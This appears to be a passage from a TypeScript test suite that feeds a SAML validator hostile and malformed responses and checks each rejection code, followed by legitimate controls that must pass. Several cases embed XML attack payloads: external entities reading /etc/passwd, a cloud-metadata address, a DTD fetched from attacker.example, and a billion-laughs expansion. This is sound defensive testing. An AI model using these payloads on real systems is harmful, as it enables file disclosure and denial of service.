  edited('a CDATA in the NameID', inNameId('<![CDATA[ana.petrova@customer.example]]>'), 'xml_cdata'),
  edited('half a CDATA in the NameID', inNameId('ana.petrova<![CDATA[@customer.example]]>'), 'xml_cdata'),
  edited('the end of a CDATA', inNameId('ana.petrova]]>@customer.example'), 'xml_malformed'),
  edited('a document type', (xml) => `<!DOCTYPE samlp:Response>${xml}`, 'xml_doctype'),
  edited('a document type in lower case', (xml) => `<!doctype samlp:Response>${xml}`, 'xml_doctype'),
  edited('an entity', (xml) => inNameId('&o;')(doctype(xml, `<!ENTITY o "${attacker}">`)), 'xml_doctype'),
  edited('an entity of a file', (xml) => inNameId('&o;')(doctype(xml, '<!ENTITY o SYSTEM "file:///etc/passwd">')), 'xml_doctype'),
  edited('an entity of the network', (xml) => inNameId('&o;')(doctype(xml, '<!ENTITY o SYSTEM "http://169.254.169.254/">')), 'xml_doctype'),
  edited('a parameter entity', (xml) => doctype(xml, '<!ENTITY % p SYSTEM "http://attacker.example/dtd"> %p;'), 'xml_doctype'),
  edited('a billion laughs', (xml) => doctype(xml, `<!ENTITY a "${'ha'.repeat(10)}">${'bcdefghi'.split('').map((name, index) => `<!ENTITY ${name} "${`&${'abcdefgh'[index]};`.repeat(10)}">`).join('')}`), 'xml_doctype'),
  edited('a default for an id', (xml) => doctype(xml, '<!ATTLIST saml:Assertion ID CDATA "_x">'), 'xml_doctype'),
  edited('an entity nobody declared', inNameId('&owner;'), 'xml_entity'),
  edited('an entity of HTML', inNameId('ana&nbsp;petrova'), 'xml_entity'),
  edited('an ampersand', inNameId('ana & petrova'), 'xml_entity'),
  edited('a character NUL', inNameId('ana&#0;petrova'), 'xml_character'),
  edited('a NUL as it is', inNameId('ana\u0000petrova'), 'xml_character'),
  edited('half a character', inNameId('ana&#xD800;petrova'), 'xml_character'),
  edited('a character beyond the last', inNameId('ana&#x110000;petrova'), 'xml_character'),
  edited('a line end only some know', inNameId('ana\u0085petrova'), 'xml_character'),
  edited('a line separator', inNameId('ana\u2028petrova'), 'xml_character'),
  edited('a line end in an attribute', (xml) => xml.replace(`Destination="${acs}"`, `Destination="${acs}\n"`), 'xml_character'),
  edited('a line end written out in an attribute', (xml) => xml.replace(`Destination="${acs}"`, `Destination="${acs}&#10;"`), 'xml_character'),
  edited('the same attribute twice', (xml) => xml.replace(`Destination="${acs}"`, `Destination="${acs}" Destination="https://other.example"`), 'xml_duplicate_attribute'),
  edited('the same id twice in one element', (xml) => xml.replace('ID="_assertion1"', 'ID="_assertion1" ID="_assertion1"'), 'xml_duplicate_attribute'),
  edited('the same attribute by two prefixes', (xml) => xml.replace('<saml:AttributeValue ', '<saml:AttributeValue xmlns:a="urn:a" xmlns:b="urn:a" a:x="1" b:x="2" '), 'xml_duplicate_attribute'),
  edited('a prefix nobody declared', (xml) => xml.replace('<samlp:Status>', '<evil:Status>').replace('</samlp:Status>', '</evil:Status>'), 'xml_undeclared_prefix'),
  edited('a prefix taken back', (xml) => xml.replace('<saml:Subject>', '<saml:Subject xmlns:saml="">'), 'xml_undeclared_prefix'),
  edited('another namespace under the prefix', (xml) => xml.replace('<saml:Subject>', '<saml:Subject xmlns:saml="urn:evil">'), 'element_unexpected'),
  edited('an assertion of SAML 1.1', (xml) => xml.replaceAll(`"${assertion}"`, '"urn:oasis:names:tc:SAML:1.0:assertion"'), 'element_unexpected'),
  edited('a NameID without namespace', (xml) => xml.replace(/<saml:NameID[^]*?<\/saml:NameID>/u, `<NameID>${attacker}</NameID>`), 'element_unexpected'),
  edited('a NameID of another namespace', (xml) => xml.replace('<saml:NameID', '<x:NameID xmlns:x="urn:x"').replace('</saml:NameID>', '</x:NameID>'), 'element_unexpected'),
  edited('a NameID of another namespace before it', (xml) => xml.replace('<saml:NameID', `<x:NameID xmlns:x="urn:x">${attacker}</x:NameID><saml:NameID`), 'element_unexpected'),
  edited('a namespace with a space', (xml) => xml.replace(`"${assertion}"`, `"${assertion} "`), 'element_unexpected', 'element_missing', 'xml_undeclared_prefix'),
  edited('a namespace in capitals', (xml) => xml.replace(`"${protocol}"`, `"${protocol.toUpperCase()}"`), 'element_unexpected'),
  edited('the prefix xml bound', (xml) => xml.replace('<samlp:Status>', '<samlp:Status xmlns:xml="urn:evil">'), 'xml_reserved_namespace'),
  edited('the prefix xmlns bound', (xml) => xml.replace('<samlp:Status>', '<samlp:Status xmlns:xmlns="urn:evil">'), 'xml_reserved_namespace'),
  edited('the namespace of xml under another prefix', (xml) => xml.replace('<samlp:Status>', '<samlp:Status xmlns:x="http://www.w3.org/XML/1998/namespace">'), 'xml_reserved_namespace'),
  edited('an id of XML', (xml) => xml.replace('<saml:Subject>', '<saml:Subject xml:id="_assertion1">'), 'attribute_unexpected'),
  edited('an id elsewhere', (xml) => xml.replace('<saml:Subject>', '<saml:Subject ID="_assertion1">'), 'attribute_unexpected'),
  edited('the response and the assertion of one id', (xml) => xml.replaceAll('_response1', '_assertion1'), 'id_repeated'),
  edited('an id of the signature like that of the assertion', (xml) => xml.replace(/<ds:Signature /u, '<ds:Signature Id="_assertion1" '), 'id_repeated'),
  edited('an element that never ends', (xml) => xml.replace('</samlp:Response>', ''), 'xml_malformed'),
  edited('elements that cross', (xml) => xml.replace('</saml:Subject>', '').replace('</saml:Conditions>', '</saml:Subject></saml:Conditions>'), 'xml_malformed', 'element_unexpected'),
  edited('a second root', (xml) => xml + xml, 'xml_malformed'),
  edited('text behind the root', (xml) => `${xml}owner`, 'xml_malformed'),
  edited('text before the root', (xml) => `owner${xml}`, 'xml_malformed'),
  edited('a mark of byte order', (xml) => `\uFEFF${xml}`, 'xml_malformed'),
  edited('a space before the declaration', (xml) => ` <?xml version="1.0"?>${xml}`, 'xml_processing_instruction'),
  edited('XML 1.1', (xml) => `<?xml version="1.1"?>${xml}`, 'xml_processing_instruction'),
  edited('another encoding declared', (xml) => `<?xml version="1.0" encoding="UTF-7"?>${xml}`, 'xml_processing_instruction'),
  edited('a tag with a name of other letters', (xml) => xml.replace('<samlp:Status>', '<samlp:St\u0430tus>').replace('</samlp:Status>', '</samlp:St\u0430tus>'), 'xml_malformed'),
  edited('a value without quotes', (xml) => xml.replace('Version="2.0"', 'Version=2.0'), 'xml_malformed'),
  edited('a tag in a value', (xml) => xml.replace('Version="2.0"', 'Version="<"'), 'xml_malformed'),
  edited('attributes without space', (xml) => xml.replace(' Version="2.0"', 'Version="2.0"'), 'xml_malformed'),
];

const toUtf16 = (xml: string) => Buffer.from(`\uFEFF${xml}`, 'utf16le').toString('base64');
const transport: Group = [
  sent('nothing', () => '', 'response_missing'),
  sent('XML as it is', (mode) => control(mode), 'response_not_base64'),
  sent('gzip', (mode) => gzipSync(control(mode)).toString('base64'), 'response_not_utf8'),
  sent('deflate', (mode) => deflateRawSync(control(mode)).toString('base64'), 'response_not_utf8', 'xml_malformed', 'xml_character'),
  sent('base64 of base64', (mode) => encode(encode(control(mode))), 'xml_malformed'),
  sent('base64 for addresses', (mode) => `${encode(control(mode)).replaceAll('=', '').replaceAll('+', '-').replaceAll('/', '_')}_-`, 'response_not_base64'),
  sent('base64 without padding', (mode) => encode(`${control(mode)}${' '.repeat((4 - (control(mode).length % 3)) % 3)}`).replace(/=+$/u, '').slice(0, -1), 'response_not_base64'),
  sent('base64 with more padding', (mode) => `${encode(control(mode))}====`, 'response_not_base64'),
  sent('base64 with padding in the middle', (mode) => encode(control(mode)).replace(/^(.{40})/u, '$1=='), 'response_not_base64'),
  sent('base64 with bits left over', () => 'PHg+PC94Pn==', 'response_not_base64'),
  sent('base64 with spaces', (mode) => encode(control(mode)).replace(/(.{50})/gu, '$1 '), 'response_not_base64'),
  sent('base64 in lines of any length', (mode) => encode(control(mode)).replace(/(.{50})/gu, '$1\n'), 'response_not_base64'),
  sent('base64 with a NUL', (mode) => `${encode(control(mode))}\u0000`, 'response_not_base64'),
  sent('base64 with a comma and another', (mode) => `${encode(control(mode))},${encode(control(mode))}`, 'response_not_base64'),
  sent('base64 with what readers pass over', (mode) => encode(control(mode)).replace(/^(.{40})/u, '$1!'), 'response_not_base64'),
  sent('two documents', (mode) => encode(control(mode) + control(mode)), 'xml_malformed'),
  sent('UTF-16', (mode) => toUtf16(control(mode)), 'response_not_utf8', 'xml_character'),
  sent('bytes that are no UTF-8', (mode) => Buffer.from(control(mode).replace('Sales', 'S\u00E4les'), 'latin1').toString('base64'), 'response_not_utf8'),
  sent('letters written longer than they are', (mode) => Buffer.concat([Buffer.from(control(mode).split('Sales')[0] ?? ''), Buffer.from([0xc1, 0x93]), Buffer.from(control(mode).split('Sales')[1] ?? '')]).toString('base64'), 'response_not_utf8'),
  sent('JSON', () => encode('{"SAMLResponse":"x"}'), 'xml_malformed'),
  sent('a page', () => encode('<!DOCTYPE html><html><body>Sign in</body></html>'), 'xml_doctype'),
  sent('a token', () => 'eyJhbGciOiJub25lIn0.eyJzdWIiOiJvd25lciJ9.', 'response_not_base64'),
  sent('256 KiB and more', (mode) => encode(control(mode).replace('Sales', () => 'a'.repeat(262_144))), 'response_too_large'),
  sent('a million characters', () => 'A'.repeat(1_000_000), 'response_too_large'),
];

const inStatus = (xml: string, junk: string) => xml.replace('<samlp:Status>', () => `${junk}<samlp:Status>`);
const deep = (levels: number) => '<saml:Audience>'.repeat(levels) + '</saml:Audience>'.repeat(levels);
const loads: Group = [
  edited('ten thousand elements', (xml) => inStatus(xml, '<saml:x/>'.repeat(10_000)), 'xml_too_many_elements'),
  edited('a thousand signatures', (xml) => inStatus(xml, `<ds:Signature xmlns:ds="${dsig}"/>`.repeat(1_000)), 'xml_too_many_elements'),
  edited('a thousand transforms for each of many references', (xml) => xml.replace('<ds:Transforms>', () => `<ds:Transforms>${transform(enveloped).repeat(1_000)}`), 'xml_too_many_elements'),
  edited('a thousand levels', (xml) => inStatus(xml, deep(1_000)), 'xml_too_deep', 'xml_too_many_elements'),
  edited('fifteen levels', (xml) => inStatus(xml, deep(15)), 'xml_too_deep'),
  edited('a thousand attributes', (xml) => xml.replace('<samlp:Status>', () => `<samlp:Status ${Array.from({ length: 1_000 }, (_, index) => `a${index}="b"`).join(' ')}>`), 'xml_too_many_attributes'),
  edited('a thousand namespaces', (xml) => xml.replace('<samlp:Status>', () => `<samlp:Status ${Array.from({ length: 1_000 }, (_, index) => `xmlns:n${index}="urn:${index}"`).join(' ')}>`), 'xml_too_many_attributes'),
  edited('an attribute of 100 KB', (xml) => xml.replace(acs, () => 'a'.repeat(100_000)), 'xml_value_too_long'),
  edited('a text of 100 KB', (xml) => xml.replace('Sales', () => 'a'.repeat(100_000)), 'xml_value_too_long'),
  edited('a certificate of 100 KB', (xml) => xml.replace('<ds:X509Certificate>', () => `<ds:X509Certificate>${'A'.repeat(100_000)}`), 'xml_value_too_long'),
  edited('a name of 100 KB', (xml) => inStatus(xml, `<${'a'.repeat(100_000)}/>`), 'xml_malformed'),
  edited('a tag of 200 KB that never ends', (xml) => `${xml.slice(0, 500)}<a ${'b'.repeat(200_000)}`, 'xml_malformed'),
  edited('a value that never ends', (xml) => xml.replace('Version="2.0"', () => `Version="${'b'.repeat(200_000)}`), 'xml_malformed', 'xml_value_too_long'),
  edited('200 KB of brackets', () => '<'.repeat(200_000), 'xml_malformed'),
  edited('200 KB of ampersands', (xml) => xml.replace('Sales', () => '&'.repeat(30_000)), 'xml_entity'),
  edited('200 KB of spaces in a tag', (xml) => xml.replace('<samlp:Status>', () => `<samlp:Status${' '.repeat(200_000)}x>`), 'xml_malformed'),
];

/** What the connection asks to be signed is not. */
const demanded: Group = [
  { name: 'asked: a signed response, sent: a signed assertion', codes: ['signature_missing'], expected: { signed: 'response' }, make: () => encode(control('assertion')) },
  { name: 'asked: a signed assertion, sent: a signed response', codes: ['signature_missing'], expected: { signed: 'assertion' }, make: () => encode(control('response')) },
  { name: 'asked: both signed, sent: one', codes: ['signature_missing'], expected: { signed: 'both' }, make: (mode) => encode(control(mode === 'both' ? 'response' : mode)) },
];

export const attacks: readonly Attack[] = [...wrongWords, ...wrapping, ...edits, ...algorithms, ...xmlTricks, ...transport, ...loads, ...demanded];

/** What providers really send: each must be accepted. */
export const controls: readonly { readonly name: string; readonly make: (mode: Mode) => string; readonly expected?: Partial<SamlExpectation> }[] = [
  { name: 'as usual', make: (mode) => encode(control(mode)) },
  { name: 'with a declaration and line ends of Windows', make: (mode) => encode(`<?xml version="1.0" encoding="UTF-8"?>\r\n${control(mode)}\r\n`) },
  { name: 'in lines of base64', make: (mode) => encode(control(mode)).replace(/(.{76})/gu, '$1\r\n') },
  { name: 'with SHA-512', make: (mode) => encode(control(mode, { algorithm: 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha512', digest: 'http://www.w3.org/2001/04/xmlenc#sha512' })) },
  { name: 'signed with PSS', make: (mode) => encode(control(mode, { algorithm: 'http://www.w3.org/2007/05/xmldsig-more#sha256-rsa-MGF1' })) },
  { name: 'signed by the next certificate', make: (mode) => encode(control(mode, { key: keys.next })) },
  { name: 'without a certificate beside the signature', make: (mode) => encode(control(mode, { named: null })) },
  { name: 'with namespaces written inclusively', make: (mode) => encode(control(mode, { inclusive: ['xs', 'saml'] })) },
  { name: 'with a signature without prefix', make: (mode) => encode(control(mode, { prefix: '' })) },
  { name: 'with names of all letters', make: (mode) => encode(signed(responseXml({ attributes: statement(attribute('name', 'Łukasz O’Neill &amp; Søn 日本 😀 &lt;b&gt;')) }), mode)) },
  { name: 'with many values, empty ones, and a name twice', make: (mode) => encode(signed(responseXml({ attributes: statement(attribute('groups', ...Array.from({ length: 150 }, (_, index) => `group ${index}`)), attribute('empty', ''), attribute('none'), attribute('Role', 'a', 'b'), attribute('Role', 'c')) }), mode)) },
  { name: 'without attributes', make: (mode) => encode(signed(responseXml({ attributes: '' }), mode)) },
  { name: 'set out in lines', make: (mode) => encode(signed(responseXml().replaceAll(/></gu, '>\n  <'), mode)) },
  { name: 'with a clock 50 s behind', make: (mode) => encode(control(mode)), expected: { now: Date.parse(at(-50)) } },
  { name: 'with a clock 50 s ahead', make: (mode) => encode(control(mode)), expected: { now: Date.parse(at(350)) } },
  { name: 'with signatures broken into lines by Java', make: (mode) => encode(control(mode, { lines: true })) },
  { name: 'for several audiences', make: (mode) => encode(signed(responseXml({ audience: restriction(other, sp) }), mode)) },
  { name: 'proven anew', make: (mode) => encode(control(mode)), expected: { authenticatedSince: Date.parse(at(-60)) } },
];
